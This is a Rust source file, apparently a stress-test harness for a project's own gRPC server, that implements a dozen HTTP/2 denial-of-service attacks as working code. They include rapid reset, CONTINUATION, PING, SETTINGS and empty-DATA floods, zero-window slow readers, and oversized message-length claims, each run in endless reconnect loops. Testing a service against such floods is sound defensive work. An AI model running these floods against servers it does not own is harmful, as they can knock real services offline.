//! HTTP/2 as no honest client speaks it, frame by frame, to the gRPC listener.

use std::net::SocketAddr;
use std::time::Duration;

use clearway_proto::packed::pack;
use clearway_proto::v1;
use futures::FutureExt;
use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::target::{self, Attack};
use crate::attack::http2::{self, frame};

const LIST: &str = "/clearway.v1.MapService/ListVehicles";
const INGEST: &str = "/clearway.v1.IngestService/Stream";
/// Pause before a connection that was cut is opened again.
const AGAIN: Duration = Duration::from_millis(20);

/// The attacks of this file.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "gRPC: 256 connections that answer pings", run: |target| answer_pings(target.grpc, 256, 0).boxed() },
    Attack {
        name: "gRPC: 2,000 readers without credits or reading",
        run: |target| answer_pings(target.grpc, 20, 100).boxed(),
    },
    Attack { name: "gRPC: packets behind a window of 0", run: |target| packets(target.grpc).boxed() },
    Attack { name: "gRPC: rapid reset", run: |target| flood(target.grpc, rapid_reset).boxed() },
    Attack { name: "gRPC: flood of CONTINUATION", run: |target| flood(target.grpc, continuations).boxed() },
    Attack { name: "gRPC: flood of empty DATA", run: |target| flood(target.grpc, empty_data).boxed() },
    Attack { name: "gRPC: flood of PING", run: |target| flood(target.grpc, pings).boxed() },
    Attack { name: "gRPC: flood of answers to no PING", run: |target| flood(target.grpc, answers).boxed() },
    Attack { name: "gRPC: flood of unknown frames", run: |target| flood(target.grpc, unknown).boxed() },
    Attack { name: "gRPC: flood of calls", run: |target| flood(target.grpc, calls).boxed() },
    Attack { name: "gRPC: flood of SETTINGS", run: |target| flood(target.grpc, settings).boxed() },
    Attack { name: "gRPC: claimed message sizes", run: |target| flood(target.grpc, claims).boxed() },
];

/// Opens a connection and announces the window of each stream.
async fn connect(at: SocketAddr, window: u32) -> std::io::Result<TcpStream> {
    let mut socket = target::connect(at).await?;
    socket.write_all(&http2::opening(window)).await?;
    Ok(socket)
}

/// Keeps this many connections open, each with this many readers that never take a byte: their windows are 0, and the
/// connections answer every ping.
async fn answer_pings(at: SocketAddr, connections: usize, readers: u32) {
    join_all((0..connections).map(|_| async move {
        loop {
            let _cut = answer_pings_of_one(at, readers).await;
            tokio::time::sleep(AGAIN).await;
        }
    }))
    .await;
}

async fn answer_pings_of_one(at: SocketAddr, readers: u32) -> std::io::Result<()> {
    let mut socket = connect(at, 0).await?;
    for reader in 0..readers {
        socket.write_all(&http2::watch(2 * reader + 1)).await?;
    }
    answer(socket).await
}

/// Streams of ingest, each with as many packets as fit in one observation, whose reports are never taken.
async fn packets(at: SocketAddr) {
    let packets = v1::Packets { lengths: pack(&[1_u16; 1024]), ..Default::default() };
    let body = Some(v1::observation::Body::Packets(packets));
    let observation =
        v1::Observation { number: 1, vehicle: "car".into(), sensor: "top".into(), body, ..Default::default() };
    loop {
        let _cut = async {
            let mut socket = connect(at, 0).await?;
            for stream in [1, 3, 5] {
                socket.write_all(&http2::call(stream, INGEST)).await?;
                socket.write_all(&http2::message(stream, &observation)).await?;
            }
            answer(socket).await
        }
        .await;
        tokio::time::sleep(AGAIN).await;
    }
}

/// Answers pings and settings until the server ends the connection.
async fn answer(mut socket: TcpStream) -> std::io::Result<()> {
    loop {
        let mut head = [0; 9];
        socket.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        socket.read_exact(&mut payload).await?;
        match (head[3], head[4] & http2::ACKNOWLEDGED) {
            (http2::PING, 0) => socket.write_all(&frame(http2::PING, http2::ACKNOWLEDGED, 0, &payload)).await?,
            (http2::SETTINGS, 0) => socket.write_all(&frame(http2::SETTINGS, http2::ACKNOWLEDGED, 0, &[])).await?,
            _ => {}
        }
    }
}

/// Sends what `frames` gives for 0, 1, 2 and so on, as fast as the server takes it, on one connection after another.
async fn flood(at: SocketAddr, frames: fn(u32) -> Vec<u8>) {
    loop {
        if let Ok(socket) = connect(at, 65_535).await {
            let (mut read, mut write) = socket.into_split();
            let send = async {
                for round in 0.. {
                    if write.write_all(&frames(round)).await.is_err() {
                        break;
                    }
                }
            };
            let receive = async {
                let mut rest = vec![0; 1 << 16];
                while read.read(&mut rest).await.is_ok_and(|length| length > 0) {}
            };
            futures::future::select(std::pin::pin!(send), std::pin::pin!(receive)).await;
        }
        tokio::time::sleep(AGAIN).await;
    }
}

/// The stream of a round.
fn stream(round: u32) -> u32 {
    2 * (round % (1 << 30)) + 1
}

fn rapid_reset(round: u32) -> Vec<u8> {
    [http2::call(stream(round), http2::WATCH), http2::reset(stream(round))].concat()
}

fn continuations(round: u32) -> Vec<u8> {
    match round {
        0 => frame(http2::HEADERS, 0, 1, &http2::header_block(http2::WATCH)),
        _ => frame(http2::CONTINUATION, 0, 1, &[]),
    }
}

fn empty_data(round: u32) -> Vec<u8> {
    match round {
        0 => http2::call(1, INGEST),
        _ => frame(http2::DATA, 0, 1, &[]),
    }
}

fn pings(round: u32) -> Vec<u8> {
    frame(http2::PING, 0, 0, &u64::from(round).to_be_bytes())
}

fn answers(_: u32) -> Vec<u8> {
    frame(http2::PING, http2::ACKNOWLEDGED, 0, &[0; 8]).repeat(100)
}

/// Frames of an unknown type.
fn unknown(_: u32) -> Vec<u8> {
    frame(77, 0, 0, &[0; 8]).repeat(100)
}

/// Calls that are answered at once, more than may be in progress.
fn calls(round: u32) -> Vec<u8> {
    [http2::call(stream(round), LIST), frame(http2::DATA, http2::END_STREAM, stream(round), &[0; 5])].concat()
}

fn settings(_: u32) -> Vec<u8> {
    http2::settings(65_535)
}

/// A stream of ingest whose first message claims 60 MiB, or more than any message may have, and has 5 bytes.
fn claims(round: u32) -> Vec<u8> {
    let claimed = if round.is_multiple_of(2) { 60 << 20 } else { u32::MAX };
    [http2::call(stream(round), INGEST), http2::claimed_message(stream(round), claimed, b"short")].concat()
}
